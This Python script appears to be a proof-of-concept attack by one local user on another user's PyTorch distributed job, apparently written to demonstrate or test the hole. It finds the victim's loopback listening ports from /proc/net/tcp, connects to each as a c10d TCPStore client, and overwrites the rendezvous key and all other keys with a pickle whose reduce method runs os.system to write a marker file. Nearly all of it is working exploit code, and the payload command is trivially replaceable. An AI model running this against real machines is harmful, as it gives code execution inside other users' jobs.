"""Another local user's attack on a job of this machine (run it as that user): for SECONDS,
connect to every TCP port the job's user listens on at loopback as a client of torch's c10d
store, list its keys and overwrite the rendezvous state (and every other key) with a pickle
that creates MARKER when unpickled: what took over a one-node job through its loopback store.
Prints what it reached."""

import base64
import os
import pickle
import sys
import time
from datetime import timedelta

import torch.distributed as dist

marker, run_id, seconds, victim_uid = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])


class RunsCode:
    def __reduce__(self):
        return (os.system, (f"id -u > {marker}",))


PAYLOAD = base64.b64encode(pickle.dumps(RunsCode())).decode()


def listening_ports() -> set[int]:
    """Loopback ports in LISTEN (state 0A) owned by the victim, from /proc/net/tcp{,6}."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            cols = row.split()
            local, state, uid = cols[1], cols[3], int(cols[7])
            if state == "0A" and uid == victim_uid:
                ports.add(int(local.rsplit(":", 1)[1], 16))
    return ports


tried, reached = set(), []
deadline = time.monotonic() + seconds
while time.monotonic() < deadline:
    for port in sorted(listening_ports() - tried):
        tried.add(port)
        try:
            store = dist.TCPStore(
                "127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False
            )
        except Exception:
            continue
        keys = []
        try:
            keys = store.list_keys()
        except Exception:
            pass
        for key in {*keys, f"torch.rendezvous.{run_id}"}:
            try:
                store.set(key, PAYLOAD)
            except Exception:
                pass
        reached.append((port, len(keys)))
    time.sleep(0.05)
print(f"ports tried {sorted(tried)}; stores reached (port, keys): {reached}", flush=True)
